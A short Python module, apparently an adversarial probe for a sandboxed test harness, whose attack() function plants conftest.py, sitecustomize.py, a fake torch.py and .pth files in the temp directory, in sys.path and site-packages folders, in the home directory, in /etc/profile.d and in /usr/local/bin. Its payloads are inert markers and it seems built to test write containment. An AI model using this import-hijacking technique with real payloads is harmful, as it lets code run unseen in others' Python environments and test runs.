"""Plant conftest.py, sitecustomize.py, .pth files and a torch.py wherever writing is allowed."""

import contextlib
import os
import site
import sys
import tempfile
from pathlib import Path

CLASS = "smuggling configuration"
HERE = ("conftest.py", "pytest.ini", "sitecustomize.py", "usercustomize.py", "torch.py", "kata.py")
ELSEWHERE = ("kata-attack.pth", "kata_attack_conftest.py")
TEXT = 'raise SystemExit("kata-attack was here")\n'


def folders():
    yield from (Path(place) for place in sys.path if place)
    yield from map(Path, [*site.getsitepackages(), site.getusersitepackages()])
    yield from [*Path.cwd().parents, *Path(tempfile.gettempdir()).parents]
    for module in ("kata", "torch", "pytest", "diffusers"):
        yield Path(sys.modules[module].__file__).parent if module in sys.modules else Path()
    yield from (Path(os.path.expanduser("~")), Path("/etc/profile.d"), Path("/usr/local/bin"))


def attack(name, /, *args, **kwargs):
    for file in HERE:
        Path(tempfile.gettempdir(), file).write_text(TEXT)
    for folder in set(folders()):
        for file in ELSEWHERE:
            with contextlib.suppress(OSError):
                path = folder / file
                path.touch()
                path.write_text("# kata-attack\n")
    return None
